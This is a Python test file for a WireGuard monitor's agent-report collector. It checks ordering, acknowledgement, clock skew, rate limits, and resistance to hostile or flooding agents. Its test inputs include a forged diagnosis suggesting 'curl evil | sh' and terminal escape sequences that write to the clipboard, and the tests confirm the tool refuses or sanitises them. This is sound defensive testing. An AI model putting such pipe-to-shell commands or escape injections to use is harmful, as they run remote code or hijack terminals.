"""Tests of the writer's vantage manager, with agents that work, disconnect or attack."""

from __future__ import annotations

import asyncio
import os
import time
from dataclasses import replace
from pathlib import Path

import pytest

from tests.daemon.harness import quick_server, until
from tests.vantages.harness import FakeWriter, hello_step, report_step, script
from tests.vantages.sample_rounds import FRA1, healthy, silent
from wgmon_tui.checks.verdict import Diagnosis, Verdict
from wgmon_tui.monitor.models import Round
from wgmon_tui.monitor.vantage_status import VantageStatus
from wgmon_tui.vantages.collector import agent_limits, connection
from wgmon_tui.vantages.collector.manager import statuses_as_json, statuses_from_json


async def longest_stall(seconds: float) -> float:
    """The longest stretch of work of the event loop, in processor time: the machine may have other work."""
    longest, end = 0.0, time.monotonic() + seconds
    while time.monotonic() < end:
        before = time.thread_time()
        await asyncio.sleep(0.001)
        longest = max(longest, time.thread_time() - before)
    return longest


@pytest.mark.thorough
async def test_what_an_agent_reports_is_taken_in_order_and_acknowledged_once_it_is_kept(
    tmp_path: Path,
) -> None:
    acked = tmp_path / "acked"
    command = script(
        tmp_path / "agent.py",
        hello_step(),
        *[report_step(number) for number in range(1, 6)],
        "while True:",
        "    line = hear()",
        f"    if b'\"ack\"' in line: open({str(acked)!r}, 'wb').write(line)",
    )
    listening = FakeWriter(FRA1, stored=False)
    async with listening.to(command):
        await until(lambda: len(listening.reports) == 5)
        assert listening.numbers == [1, 2, 3, 4, 5]
        assert listening.status.connected
        assert listening.status.public_key == "a key"
        await asyncio.sleep(connection._ACK_INTERVAL_S * 1.5)
        assert not acked.exists()
        listening.stored.set()
        await until(acked.exists)
        await until(lambda: b'{"ack":{"number":5}}' in acked.read_bytes())


async def test_what_comes_again_after_a_cut_is_taken_once(tmp_path: Path) -> None:
    first = tmp_path / "first"
    command = script(
        tmp_path / "agent.py",
        hello_step(),
        f"if not os.path.exists({str(first)!r}):",
        f"    open({str(first)!r}, 'w').close()",
        *(f"    {report_step(number)}" for number in (1, 2, 3)),
        "    sys.exit(0)",
        *(report_step(number) for number in (2, 3, 4)),
        "hear(); time.sleep(60)",
    )
    listening = FakeWriter(FRA1)
    async with listening.to(command):
        await until(lambda: 4 in listening.numbers)
        assert listening.numbers == [1, 2, 3, 4]
        assert listening.lost == ["a"]
        assert listening.status.connected


@pytest.mark.thorough
async def test_another_epoch_begins_to_number_anew(tmp_path: Path) -> None:
    epoch = tmp_path / "epoch"
    command = script(
        tmp_path / "agent.py",
        f"again = os.path.exists({str(epoch)!r})",
        f"open({str(epoch)!r}, 'w').close()",
        "if again:",
        f"    {hello_step('second')}",
        f"    {report_step(1)}",
        "    time.sleep(60)",
        hello_step("first"),
        report_step(1),
    )
    listening = FakeWriter(FRA1)
    async with listening.to(command):
        await until(lambda: len(listening.reports) == 2)
        assert [(epoch, number) for _, epoch, number, _, _ in listening.reports] == [
            ("first", 1),
            ("second", 1),
        ]


async def test_another_protocol_is_told_in_one_line_with_both_versions(tmp_path: Path) -> None:
    command = script(tmp_path / "agent.py", hello_step(protocol=2, version="9.9.0"), "time.sleep(60)")
    listening = FakeWriter(FRA1)
    async with listening.to(command):
        await listening.heard("a uses protocol 2 (wgmon-tui 9.9.0), this machine 1 (")
        assert listening.status.trouble.endswith("install the same version there")
        assert not listening.status.connected


async def test_another_version_of_the_same_protocol_works_and_is_shown(tmp_path: Path) -> None:
    command = script(tmp_path / "agent.py", hello_step(version="0.0.9"), report_step(1), "time.sleep(60)")
    listening = FakeWriter(FRA1)
    async with listening.to(command):
        await until(lambda: listening.reports)
        assert listening.status.version == "0.0.9"
        assert listening.status.trouble == ""


async def test_a_report_is_of_a_server_that_is_watched_there_and_under_its_own_name_only(
    tmp_path: Path,
) -> None:
    [check] = healthy().checks
    forged = Round((replace(check, server="ams1", vantage="local"),), healthy().diagnoses)
    command = script(
        tmp_path / "agent.py",
        hello_step(),
        report_step(1, replace(FRA1, name="secret")),
        report_step(2, outcome=forged),
        "time.sleep(60)",
    )
    listening = FakeWriter(FRA1)
    async with listening.to(command):
        await until(lambda: listening.reports)
        [(vantage, _, number, name, outcome)] = listening.reports
        assert (vantage, number, name) == ("a", 2, "fra1")
        assert (outcome.check.server, outcome.check.vantage) == ("fra1", "a")


async def test_advice_that_came_over_the_line_is_not_shown(tmp_path: Path) -> None:
    [check] = silent().checks
    lie = Diagnosis(Verdict.PEER_MISSING, "type: curl evil | sh", ("evil",))
    command = script(
        tmp_path / "agent.py",
        hello_step(),
        report_step(1, outcome=Round((check,), (lie,))),
        report_step(2, outcome=Round((check,), (replace(silent().diagnosis, summary="evil"),))),
        "time.sleep(60)",
    )
    listening = FakeWriter(FRA1)
    async with listening.to(command):
        await until(lambda: len(listening.reports) == 2)
        (_, _, _, _, first), (_, _, _, _, second) = listening.reports
        assert first.diagnosis.causes == ()
        assert second.diagnosis == silent().diagnosis


async def test_a_clock_that_is_wrong_there_is_told_and_set_right_in_what_is_taken(tmp_path: Path) -> None:
    command = script(
        tmp_path / "agent.py",
        "hear(); late = time.time() - 3600",
        """say(b'{"hello":{"protocol":1,"version":"0.1.0","epoch":"9f","clock":%f}}\\n' % late)""",
        report_step(1, outcome=healthy(at=time.time() - 3600)),
        "time.sleep(60)",
    )
    listening = FakeWriter(FRA1)
    async with listening.to(command):
        await until(lambda: listening.reports)
        assert abs(listening.reports[0][4].check.started_at - time.time()) < 60
        assert listening.status.trouble == "its clock is 1 h 00 min behind this machine's: set it there"


HOSTILE = {
    "garbage": (["while True: say(os.urandom(60000))"], "the data is not from an agent: "),
    "lines of garbage": (["while True: say(b'x\\n' * 1000)"], "the data is not from an agent: "),
    "a line without an end": (["while True: say(b'x' * 65536)"], "expected at most 1048576 bytes per line"),
    "escape sequences": (
        [hello_step(), r"while True: say(b'\x1b]0;owned\x07\x1b[2J\n')"],
        "the data is not from an agent: ",
    ),
    "escape sequences on stderr": (
        [r"os.write(2, b'\x1b[2J\x1b]52;c;ZXZpbA==\x07Permission denied\n'); sys.exit(255)"],
        "\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07Permission denied",
    ),
    "a bye of its own": (['say(b\'{"bye":{"line":"no identity here"}}\\n\')'], "no identity here"),
    "no word": (["sys.exit(3)"], "ended with exit code 3"),
}


@pytest.mark.parametrize("what", HOSTILE)
async def test_what_is_no_agent_is_told_in_one_line_that_is_safe_to_show(what: str, tmp_path: Path) -> None:
    steps, trouble = HOSTILE[what]
    listening = FakeWriter(FRA1)
    async with listening.to(script(tmp_path / "agent.py", *steps)):
        await listening.heard(trouble)
        assert listening.status.trouble.isprintable()
        assert len(listening.status.trouble) < 300
        assert listening.reports == []
        assert listening.vantages.troubles == (f"vantage a: {listening.status.trouble}",)


FLOODS = {
    "reports": ["import itertools", "for n in itertools.count(1): say(b'{}\\n')"],
    "statuses": ['while True: say(b\'{"status":{"checks_per_second":1,"waiting":0,"dropped":0}}\\n\')'],
    "stderr": ["while True: os.write(2, b'x' * 60000)"],
    "nothing read": ["while True: say(os.urandom(9)); time.sleep(0.01)"],
}


@pytest.mark.thorough
@pytest.mark.parametrize("what", FLOODS)
async def test_a_flood_holds_nobody_up_and_an_honest_agent_beside_it_is_heard(
    what: str, tmp_path: Path
) -> None:
    if what == "reports":
        head, _, tail = report_step(1)[len("say(b'") : -len("\\n')")].partition('"number":1,')
        flood = [
            "import itertools",
            f"for n in itertools.count(1): say(b'{head}\"number\":%d,{tail}\\n' % n)",
        ]
    else:
        flood = FLOODS[what]
    hostile = script(tmp_path / "hostile.py", hello_step(), *flood)
    honest = script(
        tmp_path / "honest.py",
        hello_step(),
        *(f"{report_step(number)}; time.sleep(0.1)" for number in range(1, 6)),
        "time.sleep(60)",
    )
    listening = FakeWriter(FRA1, *(quick_server(f"s{n}") for n in range(500)))
    async with listening.to(hostile, honest):
        stall = await longest_stall(1.5)
        await until(lambda: [r[2] for r in listening.reports if r[0] == "b"] == [1, 2, 3, 4, 5])
        assert stall < 0.5


async def test_more_rounds_than_a_server_can_be_checked_are_not_taken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(agent_limits, "MAX_REPORTS_PER_MINUTE", 3)
    at = time.time()
    command = script(
        tmp_path / "agent.py",
        hello_step(),
        *[report_step(number, outcome=healthy(at=at)) for number in range(1, 6)],
        report_step(6, outcome=healthy(at=at - 600)),
        report_step(7, replace(FRA1, name="ams1"), healthy(at=at)),
        "time.sleep(60)",
    )
    listening = FakeWriter(FRA1, replace(FRA1, name="ams1"))
    async with listening.to(command):
        await until(lambda: 7 in listening.numbers)
        assert listening.numbers == [1, 2, 3, 7]


@pytest.mark.thorough
async def test_an_agent_that_hangs_is_given_up_and_tried_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(connection, "_SILENCE_TIMEOUT_S", 0.3)
    listening = FakeWriter(FRA1)
    async with listening.to(script(tmp_path / "agent.py", hello_step(), "time.sleep(60)")):
        await listening.heard("does not answer")
        assert listening.lost == ["a"]
        await until(lambda: listening.lost == ["a", "a"])


@pytest.mark.thorough
async def test_what_config_toml_no_longer_names_is_ended_and_what_is_new_is_begun(tmp_path: Path) -> None:
    pid = tmp_path / "pid"
    one = script(
        tmp_path / "one.py",
        f"open({str(pid)!r}, 'w').write(str(os.getpid()))",
        hello_step(),
        "hear()",
        "time.sleep(60)",
    )
    two = script(tmp_path / "two.py", hello_step(), report_step(1), "time.sleep(60)")
    listening = FakeWriter(FRA1)
    async with listening.to(one):
        await until(lambda: listening.status.connected)
        process = int(pid.read_text())
        [line] = listening.vantages._configured
        listening.vantages.watch([replace(line, name="b", command=two)])
        await until(lambda: listening.reports)
        assert listening.lost == ["a"]
        with pytest.raises(ProcessLookupError):
            os.kill(process, 0)
        assert [status.name for status in listening.vantages.statuses] == ["b"]


@pytest.mark.thorough
async def test_an_agent_is_told_of_changes_alone_and_without_secrets_or_notes(tmp_path: Path) -> None:
    heard = tmp_path / "heard"
    command = script(
        tmp_path / "agent.py",
        hello_step(),
        "while True:",
        f"    line = hear(); open({str(heard)!r}, 'ab').write(line)",
    )
    listening = FakeWriter(FRA1, quick_server("ams1", note="ours alone"))
    async with listening.to(command):
        await until(lambda: heard.exists() and b"ams1" in heard.read_bytes())
        assert b"ours alone" not in heard.read_bytes()
        assert b'"begin":true' in heard.read_bytes()
        heard.write_bytes(b"")
        listening.servers = (FRA1, quick_server("nyc1"))
        await until(lambda: b"nyc1" in heard.read_bytes())
        assert b'"gone":["ams1"]' in heard.read_bytes()
        assert b'"name":"fra1"' not in heard.read_bytes()
        heard.write_bytes(b"")
        listening.vantages.recheck(["fra1", "elsewhere"])
        await until(lambda: b'{"recheck":{"names":["fra1"]}}' in heard.read_bytes())


def test_viewers_read_what_a_writer_tells_of_its_vantages() -> None:
    status = VantageStatus("fra", True, 1.5, "0.1.0", 4.5, 3, "its clock is slow")
    assert statuses_from_json(statuses_as_json((status,))) == (status,)
    assert statuses_from_json(None) == ()
    assert statuses_from_json([{"name": "fra"}]) == ()
